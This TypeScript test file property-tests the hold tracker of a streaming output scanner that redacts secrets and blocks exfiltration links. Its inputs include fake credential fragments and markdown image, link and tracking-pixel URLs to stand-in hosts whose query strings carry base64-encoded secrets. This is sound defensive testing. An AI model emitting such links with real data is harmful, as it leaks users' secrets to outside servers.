/**
 * @module test/scanner/hold-tracker
 * The incremental hold: merging candidates that share a DFA state must give
 * the same leftmost start as running every rule's DFA from every position a
 * match may start at (not right after a character its boundary touches,
 * and, for a rule whose context the automaton runs, only right after it);
 * a whole match always leaves a trace (`mayMatchIn`), so skipping the
 * search when there is none loses nothing; and counted repetitions bound the
 * hold on runs a relaxed automaton would keep forever.
 */
import t from 'tap'
import fc from 'fast-check'
import { defaultRulesDir, loadRuleSet } from '../../src/rules/load-rules.js'
import { classOf } from '../../src/rules/hold-automaton.js'
import type { PrefixDfa } from '../../src/rules/hold-automaton.js'
import type { CompiledRuleInternal } from '../../src/rules/compile-rule.js'
import { createHoldTracker } from '../../src/scanner/hold-tracker.js'
import { createScanner } from '../../src/scanner/create-scanner.js'
import { scanText } from '../../src/scanner/scan-text.js'

const ruleSet = await loadRuleSet([defaultRulesDir()])
const lane = ruleSet.output
if (lane === undefined) throw new Error('no output lane')
const dfas = lane.dfas
// Every shipped rule has its automaton: `dfas[i]` is `lane.rules[i]`'s.
if (lane.fallbackPrefixes.length > 0 || dfas.length !== lane.rules.length) throw new Error('a shipped rule has no automaton')
const boundaries = lane.rules.map((r) => r.boundary)
// The context each rule automaton needs, by lane index (-1: none), over the lane's parts.
const needs = new Int32Array(dfas.length).fill(-1)
for (const part of lane.parts) part.rules.forEach((r, i) => { needs[r] = part.automaton.needs[i] as number })
const laneRules = lane.rules

/** Whether boundary `b` refuses a match that starts or ends next to `ch` (as find-match.ts tests it). */
function touches (b: string, ch: string): boolean {
  if (ch === '') return false
  if (b === 'digit') return /[0-9]/.test(ch)
  if (b === 'word') return /[A-Za-z0-9]/.test(ch)
  if (b === 'alnum') return /[\p{L}\p{N}]/u.test(ch)
  return false
}

function codePointBefore (text: string, p: number): string {
  if (p === 0) return ''
  const low = text.charCodeAt(p - 1)
  return low >= 0xdc00 && low <= 0xdfff && p >= 2 ? text.slice(p - 2, p) : text.slice(p - 1, p)
}

/** Runs `dfa` anchored at `from` to the end of `text`: whether it is still alive, and whether it passed a final state. */
function run (dfa: PrefixDfa, text: string, from: number): { alive: boolean, accepted: boolean } {
  let state = dfa.initial
  let accepted = false
  for (let i = from; i < text.length;) {
    const cp = text.codePointAt(i) as number
    const cls = classOf(dfa, cp)
    state = cls === 0 ? -1 : dfa.next[state * dfa.classes + cls] as number
    if (state < 0) return { alive: false, accepted }
    if (dfa.accept[state] === 1) accepted = true
    i += cp > 0xffff ? 2 : 1
  }
  return { alive: true, accepted }
}

/** A rule whose `after` the automaton runs starts only where it matched the text before. */
function contextAllows (i: number, text: string, p: number): boolean {
  if ((needs[i] as number) < 0) return true
  const after = (laneRules[i] as CompiledRuleInternal).after
  if (after === undefined) return true
  after.regex.lastIndex = 0
  return after.regex.test(text.slice(0, p))
}

function bruteLeftmost (text: string): number {
  for (let p = 0; p < text.length; p++) {
    if (p > 0 && text.charCodeAt(p) >= 0xdc00 && text.charCodeAt(p) <= 0xdfff) continue
    const before = codePointBefore(text, p)
    if (dfas.some((d, i) => !touches(boundaries[i] as string, before) && contextAllows(i, text, p) && run(d, text, p).alive)) return p
  }
  return Infinity
}

const pieces = fc.constantFrom('4111 ', '1111', ' ', 'jane', '.doe', '@acme', '.com', 'AKIA', 'QWERTYUIOPASDFGH', 'sk-proj-', 'abc', '123-45-', '6789', '[x](https://e.example/p?q=', 'eyJ', 'hello ', '\n', '-----BEGIN ', 'PRIVATE KEY-----', 'password', ' = "', 'x7Gq2!', 'é', '😀', '![i](https://e.example/i.png', '?d=', 'src="https://e.example/t.gif', '[r]: https://e.example/r', '?', 'U2VjcmV0IHRva2VuOiBhYmMxMjM=', ')')

t.test('merged candidates give the leftmost start of a per-position run', async (t) => {
  fc.assert(fc.property(fc.array(pieces, { maxLength: 14 }), fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 }), (parts, cuts) => {
    const text = parts.join('')
    const tracker = createHoldTracker(lane.parts)
    // Fed in arbitrary pieces: the result must not depend on them.
    let at = 0
    for (let k = 0; at < text.length; k++) {
      let end = Math.min(text.length, at + (cuts[k % cuts.length] as number))
      if (end < text.length && text.charCodeAt(end) >= 0xdc00 && text.charCodeAt(end) <= 0xdfff) end++
      tracker.push(text.slice(at, end))
      at = end
    }
    t.equal(tracker.leftmost(), bruteLeftmost(text), JSON.stringify(text))
  }), { numRuns: 300 })
})

t.test('a match leaves a trace of its rule, no later than its start; a text no rule can match leaves none', async (t) => {
  const clean = createHoldTracker(lane.parts)
  clean.push('The export button ignored the time zone, so reports showed up under the next day. ')
  const none: number[] = []
  t.equal(clean.endedIn(0, Infinity, true, none), Infinity, 'plain prose reaches no final state')
  t.same(none, [])
  fc.assert(fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
    const text = parts.join('')
    const tracker = createHoldTracker(lane.parts)
    tracker.push(text)
    const rules: number[] = []
    const earliest = tracker.endedIn(0, Infinity, true, rules)
    const ids = new Set(rules.map((r) => lane.rules[r]?.id))
    for (const f of scanText(ruleSet, text).findings) {
      if (f.action === 'flag') continue
      // Findings are in input offsets and the tracker read the normalized view: equal here (no invisible characters in the pieces).
      t.ok(ids.has(f.ruleId) && earliest <= f.start, `${JSON.stringify(text)}: ${f.ruleId} at ${f.start} (traced: ${[...ids].join(', ')} from ${earliest})`)
    }
  }), { numRuns: 300 })
})

t.test('counted repetitions bound the hold on long runs of digits and base64', async (t) => {
  for (const [name, alphabet] of [['digits', '0123456789'], ['base64', 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/']] as const) {
    const scanner = createScanner(ruleSet)
    let maxHeld = 0
    let seed = 1
    for (let i = 0; i < 5000; i++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff
      scanner.write(alphabet[seed % alphabet.length] as string)
      maxHeld = Math.max(maxHeld, scanner.held)
    }
    scanner.end()
    // The longest counted run a rule reads from its first character (IBAN, AWS secret, …), not the lane's longest match.
    t.ok(maxHeld <= 128, `${name}: held at most ${maxHeld} characters (the lane's longest match is ${lane.maxLength})`)
  }
})

t.test('a link context that holds a match still gates its query, in any chunking', async (t) => {
  // After a match the tracker is made again and reads the decided text
  // before it for its contexts: the e-mail or IP inside the link's URL must
  // not make the query after it pass unseen, nor a URL outside a link hold.
  const texts = [
    '[x](https://jane.doe@acme-corp.com/p?d=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ=) end',
    '![a](https://81.2.69.161/t.png?d=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ=) end',
    'mail jane.doe@acme-corp.com then see https://x.example/a?b=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ= for',
    '<img src="https://e.example/t.gif?u=q5DnLBJ91xYI3lQ74qXDGi9eDavCWkiy" width="1">'
  ]
  for (const text of texts) {
    const whole = scanText(ruleSet, text).text
    for (let step = 1; step <= 9; step++) {
      const scanner = createScanner(ruleSet)
      let out = ''
      for (let i = 0; i < text.length; i += step) out += scanner.write(text.slice(i, i + step)).text
      out += scanner.end().text
      t.equal(out, whole, `${JSON.stringify(text)} in pieces of ${step}`)
    }
    if (text.startsWith('mail')) t.ok(whole.includes('?b=U2VjcmV0'), 'a URL outside a link is no exfiltration')
    else t.notOk(whole.includes('U2VjcmV0') || whole.includes('q5DnLBJ91'), `the payload is gone: ${whole}`)
  }
})
